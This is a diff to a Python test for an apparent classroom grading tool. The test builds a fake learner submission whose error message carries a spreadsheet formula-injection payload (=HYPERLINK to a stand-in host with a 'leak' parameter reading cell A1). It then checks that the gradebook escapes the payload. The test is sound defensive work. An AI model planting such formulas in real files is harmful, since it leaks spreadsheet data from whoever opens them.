@@ -216,7 +216,10 @@ def test_safe_cell_keeps_numbers_and_quotes_text_that_starts_a_formula():
 @needs_sandbox
 def test_a_learners_load_error_that_is_a_formula_is_escaped_in_the_gradebook(tmp_path):
     path = tmp_path / "mal.py"
-    path.write_text('raise RuntimeError("oops\\n=HYPERLINK(\\"http://x?leak=\\"&A1, \\"click\\")")\n')
+    # the error is raised where the file binds a name its softmax needs, so it runs (sdpa_lab.grading.source)
+    path.write_text('def _scale():\n'
+                    '    raise RuntimeError("oops\\n=HYPERLINK(\\"http://x?leak=\\"&A1, \\"click\\")")\n\n\n'
+                    'SCALE = _scale()\n\n\ndef softmax(x, axis=-1):\n    return x * SCALE\n')
     record = classroom.grade_submission(path, "mal", seed=1)
     assert record["exit_status"] == 2 and record["unusable"].startswith("=HYPERLINK")
     out = _job([record], tmp_path)
